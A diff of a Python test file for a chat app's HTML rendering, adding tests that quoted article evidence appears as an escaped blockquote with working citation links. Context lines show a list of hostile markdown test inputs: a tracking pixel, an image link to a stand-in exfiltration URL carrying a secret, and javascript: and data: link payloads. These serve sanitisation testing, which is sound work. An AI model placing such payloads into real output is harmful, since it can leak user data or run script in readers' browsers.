@@ -114,6 +114,15 @@ def test_markers_become_links_to_their_turns_cards():
     assert render.chat_html("a question [1]") == "a question [1]"  # markers link only in answers
 
 
+def test_the_quoted_evidence_line_is_a_blockquote_and_stays_literal():
+    text = "Jason Droege [1].\n\n> Kutipan artikel: CEO interim Scale AI, Jason Droege <b>x</b> [2]."
+    shown = render.answer_html(text, 3)
+    assert shown == ('Jason Droege <a href="#src-3-1">[1]</a>.<br><br><blockquote>Kutipan artikel: CEO interim '
+                     'Scale AI, Jason Droege &lt;b&gt;x&lt;/b&gt; <a href="#src-3-2">[2]</a>.</blockquote>')
+    assert render.chat_text(shown) == text
+    assert render.chat_html("a > b") == "a &gt; b"  # only a line that starts with "> " is a quote
+
+
 HOSTILE_MARKDOWN = [
     "![pixel](https://tracker.example/p.gif)", "![grafik][g]\n\n[g]: http://h/exfil?q=secret",
     "[js](javascript:alert(6))", "[data](data:text/html,x)", "[[1]](javascript:alert(7))", "<http://h/auto>",
@@ -782,6 +791,11 @@ def test_seed_conversation_on_the_local_llm(browser, web, tmp_path_factory):
         ui.ask("and who is the interim CEO?", 2, timeout=480_000)
         expect(ui.bot()).to_contain_text("Jason Droege")
         expect(ui.bot()).not_to_contain_text("could not find the answer")
+        # under the answer, the article's own sentence that names him, set off as a quote with a working marker
+        quote = ui.bot().locator("blockquote").last
+        expect(quote).to_contain_text("Quoted from the articles")
+        expect(quote).to_contain_text("Jason Droege")
+        expect(quote.locator('a[href^="#src-2-"]').first).to_be_visible()
         expect(ui.bot().locator('a[href="#src-2-1"]').first).to_have_text("[1]")
         expect(ui.page.locator("#src-2-1 .src-title")).to_have_text(SEED_TITLE)
         assert ui.dialogs == [] and ui.external == []
